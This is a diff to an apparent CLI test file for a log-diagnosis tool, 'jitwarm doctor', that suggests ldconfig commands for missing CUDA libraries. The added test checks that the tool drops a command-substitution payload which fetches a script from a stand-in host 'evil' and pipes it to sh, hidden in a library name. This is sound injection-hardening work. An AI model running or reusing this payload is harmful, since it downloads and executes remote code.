@@ -90,6 +90,9 @@ $ tail -1 a.log | jitwarm doctor --log -
 ? 1
 [bad] Line 1: a library of CUDA or cuDNN was not found: libcudnn.so.8.
 ldconfig -p | grep libcudnn
+$ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared object file' | jitwarm doctor --log -
+? 1
+ldconfig -p | grep libcu
 $ jitwarm doctor --json --log a.log
 ? 1
 .log.errors.1.line = 3
